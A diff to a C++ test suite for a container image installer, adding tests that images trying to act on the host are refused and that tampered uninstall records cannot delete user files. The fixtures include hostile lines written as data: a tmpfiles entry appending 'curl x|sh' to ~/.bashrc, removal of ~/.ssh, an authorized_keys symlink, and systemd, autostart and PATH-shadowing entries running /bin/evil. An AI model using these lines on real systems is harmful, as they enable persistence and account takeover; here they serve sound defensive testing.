@@ -13,6 +13,7 @@
 
 #include <chrono>
 #include <filesystem>
+#include <nlohmann/json.hpp>
 #include <optional>
 #include <set>
 
@@ -103,6 +104,52 @@ class Install : public ::testing::Test {
                              {"ExposedPorts", {{"8080/tcp", nlohmann::json::object()}}},
                              {"Labels", {{"org.opencontainers.image.description", "demo app"}}}};
     return spec;
+  }
+
+  // An image whose /exports holds `exports` (file name -> text) and the
+  // entries `extra`, with a /bin/sh to run.
+  void make_atomic_image(const std::map<std::string, std::string>& exports,
+                         std::vector<TarEntry> extra = {}) {
+    std::vector<TarEntry> entries = {dir("bin"), file("bin/sh", "sh", 0755), dir("exports")};
+    bool config = false;
+    for (const auto& [name, text] : exports) {
+      entries.push_back(file("exports/" + name, text));
+      config = config || name == "config.json.template";
+    }
+    if (!config)
+      entries.push_back(file("exports/config.json.template",
+                             R"({"process":{"args":["/bin/sh"]},"linux":{"namespaces":[
+                                 {"type":"pid"},{"type":"ipc"},{"type":"mount"}]}})"));
+    entries.insert(entries.end(), extra.begin(), extra.end());
+    ImageSpec spec;
+    spec.layers = {make_tar(entries)};
+    make_oci_layout(tmp_ / "layout", spec);
+  }
+
+  static std::string config_with_bind(const std::string& source, const std::string& mode) {
+    return R"({"process":{"args":["/bin/sh"]},"mounts":[{"destination":"/data","type":"bind",
+        "source":")" + source + R"(","options":["rbind",")" + mode + R"("]}],
+        "linux":{"namespaces":[{"type":"pid"},{"type":"ipc"},{"type":"mount"}]}})";
+  }
+
+  // Finding 4 of issue 12, as reproduced.
+  std::map<std::string, std::string> hostile_exports() {
+    return {{"tmpfiles.template", "w+ %h/.bashrc - - - - curl x|sh\n"
+                                  "Z %h 0777\n"
+                                  "R " + ctx_.dirs.home + "/.ssh\n"
+                                  "L+ " + ctx_.dirs.home +
+                                      "/.ssh/authorized_keys - - - - /tmp/k\n"},
+            {"config.json.template", config_with_bind("/", "rw")},
+            {"service.template", "[Install]\nWantedBy=default.target\n"}};
+  }
+  static std::vector<TarEntry> hostile_hostfs() {
+    return {file("exports/hostfs/etc/systemd/user/x.service", "[Service]\nExecStart=/bin/evil\n"),
+            symlink("exports/hostfs/etc/systemd/user/default.target.wants/x.service",
+                    "../x.service"),
+            file("exports/hostfs/etc/autostart/x.desktop", "[Desktop Entry]\nExec=/bin/evil\n"),
+            file("exports/hostfs/etc/box/containers/evil.yaml", "rootfs: /\ncommand: [sh]\n"),
+            file("exports/hostfs/usr/bin/ls", "#!/bin/sh\nevil\n", 0755),
+            TarEntry{TarEntry::kFifo, "exports/hostfs/usr/share/x/fifo", "", 0644, 0, 0}};
   }
 
   TempDir tmp_;
@@ -230,7 +277,17 @@ TEST_F(Install, AtomicExports) {
                      "d $RUN_DIRECTORY/$NAME - - - - -\n"),
                 file("exports/hostfs/usr/local/bin/appctl", "#!/bin/sh\n", 0755)})};
   make_oci_layout(tmp_ / "layout", spec);
-  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), with_set(named("app"), "PORT", "2"), nullptr);
+  const std::string tool = ctx_.dirs.home + "/.local/bin/appctl-app";
+  // ~/.local/bin is on PATH: the tool goes there only with consent.
+  auto refused =
+      install(ctx_, "oci:" + (tmp_ / "layout"), with_set(named("app"), "PORT", "2"), nullptr);
+  ASSERT_FALSE(refused.ok());
+  EXPECT_NE(refused.error().message().find("add --allow-host-file " + tool), std::string::npos)
+      << refused.error().message();
+  expect_nothing_left("app");
+  InstallOptions o = with_set(named("app"), "PORT", "2");
+  o.allow_host_files = {tool};
+  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
   ASSERT_TRUE(r.ok()) << r.error().message();
   EXPECT_TRUE(r->atomic_exports);
   std::string def = read_bytes(definition("app"));
@@ -242,10 +299,28 @@ TEST_F(Install, AtomicExports) {
   EXPECT_NE(def.find("source: \"" + state + "\""), std::string::npos) << def;
   EXPECT_TRUE(fs::is_directory(state));
   EXPECT_EQ(fs::status(state).permissions() & fs::perms::all, fs::perms::owner_all);
-  EXPECT_TRUE(fs::is_directory(ctx_.dirs.runtime_dir + "/app"));
+  const std::string run = ctx_.dirs.runtime_dir + "/box/run/app";
+  EXPECT_TRUE(fs::is_directory(run));
   EXPECT_EQ(r->data_dirs, std::vector<std::string>{state});
-  const std::string tool = ctx_.dirs.home + "/.local/bin/appctl-app";
   EXPECT_EQ(read_bytes(tool), "#!/bin/sh\n");
+  // Each thing made is recorded with its inode.
+  std::vector<std::string> created;
+  for (const auto& c : r->created) {
+    created.push_back(c.kind + " " + c.path);
+    struct stat st;
+    ASSERT_EQ(lstat(c.path.c_str(), &st), 0) << c.path;
+    EXPECT_EQ(c.dev, st.st_dev);
+    EXPECT_EQ(c.ino, st.st_ino);
+  }
+  EXPECT_EQ(created, (std::vector<std::string>{
+                         "data " + state, "runtime " + run,
+                         "tmpfiles " + ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf",
+                         "host-file " + tool}));
+  EXPECT_EQ(read_bytes(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"),
+            "# Installed by boxctl install for box@app; removed by boxctl uninstall.\n"
+            "d " + state + " 0700 " + std::to_string(getuid()) + " " + std::to_string(getgid()) +
+                " -\n"
+                "d " + run + " - - - -\n");
   EXPECT_EQ(r->host_files, std::vector<std::string>{tool});
   EXPECT_TRUE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));
 
@@ -255,12 +330,13 @@ TEST_F(Install, AtomicExports) {
   EXPECT_EQ(stopped_, std::vector<std::string>{"box@app.service"});
   EXPECT_EQ(read_bytes(state + "/db"), "precious");
   EXPECT_FALSE(fs::exists(tool));
-  EXPECT_FALSE(fs::exists(ctx_.dirs.runtime_dir + "/app"));
+  EXPECT_FALSE(fs::exists(run));
   EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));
   expect_nothing_left("app");
 
-  // Reinstalled and purged: the data goes too.
-  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr).ok());
+  // Reinstalled (the data dir exists: not recorded again) and purged: the
+  // data goes too, as the box's own state dir.
+  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr).ok());
   ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
   EXPECT_FALSE(fs::exists(state));
 }
@@ -511,7 +587,8 @@ TEST_F(Install, AFifoInTheExportsFailsAtOnceAndLeavesNothing) {
       {"tmpfiles.template", {dir("exports"), fifo("exports/tmpfiles.template")},
        "/exports/tmpfiles.template' is a FIFO, not a regular file"},
       {"hostfs", {dir("exports"), dir("exports/hostfs/etc/app"), fifo("exports/hostfs/etc/app/conf")},
-       "/exports/hostfs/etc/app/conf' is a FIFO, not a regular file"},
+       // The install's policy refuses it first, with the others it refuses.
+       "hostfs/etc/app/conf: a FIFO; only regular files and symlinks are installed"},
       {"the image's /etc/passwd (its User is a name)", {fifo("etc/passwd")},
        "image user 'svc': '"},
       {"config.json.template as a directory",
@@ -528,7 +605,6 @@ TEST_F(Install, AFifoInTheExportsFailsAtOnceAndLeavesNothing) {
                                       std::chrono::seconds(10));
     ASSERT_TRUE(error.has_value()) << c.what << ": the install hung";
     EXPECT_NE(error->find(c.message), std::string::npos) << c.what << ": " << *error;
-    EXPECT_NE(error->find("is a "), std::string::npos) << c.what << ": " << *error;
     EXPECT_LT(std::chrono::steady_clock::now() - started, std::chrono::seconds(5)) << c.what;
     expect_nothing_left("app");
   }
@@ -658,6 +734,254 @@ TEST_F(Install, DebrisOfGoneProcessesOnly) {
   EXPECT_EQ(left, (std::vector<std::string>{".staging-app-" + alive + "-abc", "kept"}));
   EXPECT_TRUE(fs::exists(defs + "/app.yaml.installing-" + alive));
   EXPECT_EQ(read_bytes(tmp_ / "outside/precious"), "mine");
+}
+
+// Issue 12, finding 3: a tmpfiles line and a bind source that climb out of
+// the box's places with "..". Refused at install, with both named; the
+// user's ~/precious and ~/.ssh are untouched.
+TEST_F(Install, DotDotOutOfTheBoxsPlacesIsRefused) {
+  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
+  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
+  // $RUN_DIRECTORY is <runtime>/box/run; $STATE_DIRECTORY is
+  // ~/.local/share/box/state: three ".." up is the scratch root, resp. ~.
+  make_atomic_image({{"tmpfiles.template", "d $RUN_DIRECTORY/../../../home/precious - - - -\n"},
+                     {"config.json.template", config_with_bind(
+                                                  "$STATE_DIRECTORY/../../../.ssh", "rw")}});
+  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
+  ASSERT_FALSE(r.ok());
+  const std::string m = r.error().message();
+  EXPECT_NE(m.find("tmpfiles.template:1: 'd " + ctx_.dirs.runtime_dir +
+                   "/box/run/../../../home/precious - - - -': '" + ctx_.dirs.runtime_dir +
+                   "/box/run/../../../home/precious' is not a canonical absolute path"),
+            std::string::npos)
+      << m;
+  EXPECT_NE(m.find("config.json.template: bind of host path '" + ctx_.dirs.data_home +
+                   "/box/state/../../../.ssh' (read-write) to '/data': not a canonical"),
+            std::string::npos)
+      << m;
+  expect_nothing_left("app");
+  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/precious/keep"), "mine");
+  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/.ssh/id_ed25519"), "secret");
+  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d"));
+}
+
+// The other half of finding 3: uninstall acts only on records it checks
+// again. An image.json edited to name ~/.ssh and ~/precious (with their
+// real inodes: whoever edits it can stat them) removes neither, with or
+// without --purge; a record whose inode changed is left too.
+TEST_F(Install, AnEditedImageJsonCannotMakeUninstallRemoveYourFiles) {
+  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
+  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
+  write_bytes(ctx_.dirs.home + "/.bashrc", "# mine\n");
+  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"
+                                           "d $RUN_DIRECTORY/$NAME/sock - - - -\n"}});
+  for (bool purge : {false, true}) {
+    auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
+    ASSERT_TRUE(r.ok()) << r.error().message();
+    const std::string meta_path = images() + "/app/image.json";
+    auto j = nlohmann::json::parse(read_bytes(meta_path));
+    auto record = [](const std::string& path, const std::string& kind) {
+      struct stat st;
+      lstat(path.c_str(), &st);
+      return nlohmann::json{{"path", path},
+                            {"kind", kind},
+                            {"dev", static_cast<std::uint64_t>(st.st_dev)},
+                            {"ino", static_cast<std::uint64_t>(st.st_ino)}};
+    };
+    const std::string home = ctx_.dirs.home;
+    const std::string state = ctx_.dirs.data_home + "/box/state";
+    for (const auto& [path, kind] : std::vector<std::pair<std::string, std::string>>{
+             {home + "/.ssh", "data"},
+             {home + "/precious", "runtime"},
+             {state + "/app/../../../../../precious", "data"},
+             {home + "/.bashrc", "host-file"},
+             {home + "/.ssh/id_ed25519", "tmpfiles"}})
+      j["created"].push_back(record(path, kind));
+    // The runtime dir's record now names another inode (it is removed all
+    // the same, as the box's own runtime dir, below).
+    for (auto& c : j["created"])
+      if (c["kind"] == "runtime" && c["path"] == ctx_.dirs.runtime_dir + "/box/run/app")
+        c["ino"] = c["ino"].get<std::uint64_t>() + 1;
+    j["data_dirs"] = {home + "/.ssh", home + "/precious"};
+    j["runtime_dirs"] = {home + "/precious"};
+    j["host_files"] = {home + "/.bashrc"};
+    j["tmpfiles"] = home + "/.bashrc";
+    j["definition"] = home + "/.bashrc";
+    write_bytes(meta_path, j.dump());
+
+    auto u = uninstall(ctx_, "app", purge);
+    ASSERT_TRUE(u.ok()) << u.error().message();
+    EXPECT_EQ(read_bytes(home + "/precious/keep"), "mine");
+    EXPECT_EQ(read_bytes(home + "/.ssh/id_ed25519"), "secret");
+    EXPECT_EQ(read_bytes(home + "/.bashrc"), "# mine\n");
+    std::string notes;
+    for (const auto& n : *u) notes += n + "\n";
+    // Data records are looked at only with --purge.
+    EXPECT_EQ(notes.find("left '" + home + "/.ssh' (data in image.json): not in the box's own") !=
+                  std::string::npos,
+              purge)
+        << notes;
+    EXPECT_NE(notes.find("left '" + home + "/precious' (runtime in image.json): not in the box's"),
+              std::string::npos)
+        << notes;
+    EXPECT_NE(notes.find("left '" + home + "/.bashrc' (host-file in image.json)"),
+              std::string::npos)
+        << notes;
+    EXPECT_NE(notes.find("/box/run/app': it is not the one the install created"),
+              std::string::npos)
+        << notes;
+    expect_nothing_left("app");
+    // The box's own places go as documented: the runtime dir always, the
+    // state dir with --purge.
+    EXPECT_FALSE(fs::exists(ctx_.dirs.runtime_dir + "/box/run/app"));
+    EXPECT_EQ(fs::exists(state + "/app"), !purge);
+  }
+}
+
+// A symlink in the box's own places is not followed by uninstall.
+TEST_F(Install, UninstallDoesNotFollowASymlinkInTheBoxsPlaces) {
+  write_bytes(ctx_.dirs.home + "/precious/keep", "mine");
+  make_atomic_image({{"tmpfiles.template", "d $RUN_DIRECTORY/$NAME - - - -\n"}});
+  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr).ok());
+  const std::string run = ctx_.dirs.runtime_dir + "/box/run/app";
+  fs::remove(run);
+  fs::create_directory_symlink(ctx_.dirs.home + "/precious", run);
+  fs::create_directories(ctx_.dirs.data_home + "/box/state");
+  fs::create_directory_symlink(ctx_.dirs.home + "/precious",
+                               ctx_.dirs.data_home + "/box/state/app");
+  auto u = uninstall(ctx_, "app", true);
+  ASSERT_TRUE(u.ok()) << u.error().message();
+  EXPECT_EQ(read_bytes(ctx_.dirs.home + "/precious/keep"), "mine");
+  std::string notes;
+  for (const auto& n : *u) notes += n + "\n";
+  EXPECT_NE(notes.find("left '" + run + "': a symlink"), std::string::npos) << notes;
+}
+
+// Issue 12, finding 4: tmpfiles lines aimed at %h, hostfs files that run
+// code or configure other software, a bind of / read-write, autostart. All
+// refused at once, each naming what allows it; nothing of yours changes.
+TEST_F(Install, ExportsThatWouldActOnTheHostAreRefused) {
+  write_bytes(ctx_.dirs.home + "/.bashrc", "# mine\n");
+  write_bytes(ctx_.dirs.home + "/.ssh/id_ed25519", "secret");
+  fs::permissions(ctx_.dirs.home, fs::perms(0755));
+  make_atomic_image(hostile_exports(), hostile_hostfs());
+  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr);
+  ASSERT_FALSE(r.ok());
+  const std::string m = r.error().message();
+  const std::string home = ctx_.dirs.home, config = ctx_.dirs.config_home;
+  for (const std::string& says : std::vector<std::string>{
+           "tmpfiles.template:1: 'w+ %h/.bashrc - - - - curl x|sh': specifiers",
+           "tmpfiles.template:2: 'Z %h 0777': specifiers",
+           "tmpfiles.template:3: 'R " + home + "/.ssh': 'R' removes files",
+           "tmpfiles.template:4: 'L+ " + home + "/.ssh/authorized_keys - - - - /tmp/k': 'L+' "
+           "creates a symlink",
+           "hostfs/etc/systemd/user/x.service -> " + config +
+               "/systemd/user/x.service: systemd user units and their .wants links: systemd "
+               "runs them; add --allow-host-file " + config + "/systemd/user/x.service",
+           "hostfs/etc/systemd/user/default.target.wants/x.service -> " + config +
+               "/systemd/user/default.target.wants/x.service: a symlink to '../x.service'",
+           "hostfs/etc/autostart/x.desktop -> " + config + "/autostart/x.desktop: XDG autostart",
+           "hostfs/etc/box/containers/evil.yaml -> " + config +
+               "/box/containers/evil.yaml: box definitions",
+           "hostfs/usr/bin/ls -> " + home + "/.local/bin/ls: " + home +
+               "/.local/bin is on PATH: a program there runs instead of another of that name; "
+               "add --allow-host-file " + home + "/.local/bin/ls to install it",
+           std::string("hostfs/usr/share/x/fifo: a FIFO; only regular files and symlinks"),
+           std::string("config.json.template: bind of host path '/' (read-write) to '/data': "
+                       "outside the box's own places; add --allow-bind / to allow it"),
+           std::string("service.template: WantedBy= asks for 'autostart: login'"),
+       })
+    EXPECT_NE(m.find(says), std::string::npos) << says << "\nnot in:\n" << m;
+  expect_nothing_left("app");
+  EXPECT_EQ(read_bytes(home + "/.bashrc"), "# mine\n");
+  EXPECT_EQ(read_bytes(home + "/.ssh/id_ed25519"), "secret");
+  EXPECT_EQ(fs::status(home).permissions(), fs::perms(0755));
+  for (const char* p : {"/systemd", "/autostart", "/user-tmpfiles.d"})
+    EXPECT_FALSE(fs::exists(config + p)) << p;
+  EXPECT_FALSE(fs::exists(home + "/.local/bin"));
+}
+
+// --dry-run: the same refusals, and every change the install would make,
+// with nothing changed outside staging (staging removed).
+TEST_F(Install, DryRunListsChangesAndRefusalsAndChangesNothing) {
+  make_atomic_image(hostile_exports(), hostile_hostfs());
+  InstallOptions o = named("app");
+  o.dry_run = true;
+  auto r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
+  ASSERT_TRUE(r.ok()) << r.error().message();
+  EXPECT_TRUE(r->dry_run);
+  EXPECT_EQ(r->refused.size(), 12u);
+  expect_nothing_left("app");
+  EXPECT_FALSE(fs::exists(ctx_.dirs.home + "/.local/bin"));
+  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d"));
+
+  // An image that asks only for what it may do, and for what the user
+  // consents to: every change listed, none made.
+  fs::remove_all(tmp_ / "layout");
+  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"},
+                     {"config.json.template", config_with_bind("/", "ro")},
+                     {"service.template", "[Install]\nWantedBy=default.target\n"}},
+                    {file("exports/hostfs/usr/bin/ls", "#!/bin/sh\n", 0755),
+                     file("exports/hostfs/usr/share/man/man1/app.1", ".TH APP 1\n")});
+  const std::string ls = ctx_.dirs.home + "/.local/bin/ls";
+  o.allow_binds = {"/"};
+  o.allow_host_files = {ls};
+  o.allow_autostart = true;
+  r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
+  ASSERT_TRUE(r.ok()) << r.error().message();
+  EXPECT_TRUE(r->refused.empty()) << r->refused.front();
+  const std::string state = ctx_.dirs.data_home + "/box/state";
+  std::vector<HostChange> want = {
+      {"definition", definition("app"), "created"},
+      {"image", images() + "/app", "created"},
+      {"tmpfiles", ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf",
+       "systemd-tmpfiles rules for the directories"},
+      {"directory", state, "created (data, from tmpfiles.template)"},
+      {"directory", state + "/app", "created (data, from tmpfiles.template)"},
+      {"host-file", ls, "from hostfs/usr/bin/ls"},
+      {"host-file", ctx_.dirs.data_home + "/man/man1/app.1", "from hostfs/usr/share/man/man1/app.1"},
+      {"bind", "/", "read-only to /data (allowed by --allow-bind)"},
+      {"autostart", "login", "started at every login (allowed)"},
+  };
+  EXPECT_EQ(r->changes, want);
+  expect_nothing_left("app");
+  EXPECT_FALSE(fs::exists(ls));
+  EXPECT_FALSE(fs::exists(state));
+
+  // The same, not a dry run: the consented things are there.
+  o.dry_run = false;
+  r = install(ctx_, "oci:" + (tmp_ / "layout"), o, nullptr);
+  ASSERT_TRUE(r.ok()) << r.error().message();
+  EXPECT_EQ(read_bytes(ls), "#!/bin/sh\n");
+  std::string def = read_bytes(definition("app"));
+  EXPECT_NE(def.find("source: \"/\""), std::string::npos) << def;
+  EXPECT_NE(def.find("autostart: \"login\""), std::string::npos) << def;
+  ASSERT_TRUE(uninstall(ctx_, "app", true).ok());
+  EXPECT_FALSE(fs::exists(ls));
+  EXPECT_FALSE(fs::exists(ctx_.dirs.data_home + "/man/man1/app.1"));
+}
+
+// An install recorded by an earlier box (no inodes): its host files and
+// dirs outside the box's own places are left, and said so.
+TEST_F(Install, AnOldImageJsonWithoutInodesLeavesItsHostFiles) {
+  make_atomic_image({{"tmpfiles.template", "d $STATE_DIRECTORY/$NAME 0700 - - -\n"}});
+  ASSERT_TRUE(install(ctx_, "oci:" + (tmp_ / "layout"), named("app"), nullptr).ok());
+  const std::string meta_path = images() + "/app/image.json";
+  auto j = nlohmann::json::parse(read_bytes(meta_path));
+  j.erase("created");
+  const std::string tool = ctx_.dirs.home + "/.local/bin/appctl";
+  write_bytes(tool, "#!/bin/sh\n");
+  j["host_files"] = {tool};
+  write_bytes(meta_path, j.dump());
+  auto u = uninstall(ctx_, "app", false);
+  ASSERT_TRUE(u.ok()) << u.error().message();
+  ASSERT_EQ(u->size(), 1u);
+  EXPECT_NE(u->front().find("left '" + tool + "': installed by an earlier box"),
+            std::string::npos)
+      << u->front();
+  EXPECT_TRUE(fs::exists(tool));
+  EXPECT_FALSE(fs::exists(ctx_.dirs.config_home + "/user-tmpfiles.d/box-app.conf"));
+  expect_nothing_left("app");
 }
 
 }  // namespace
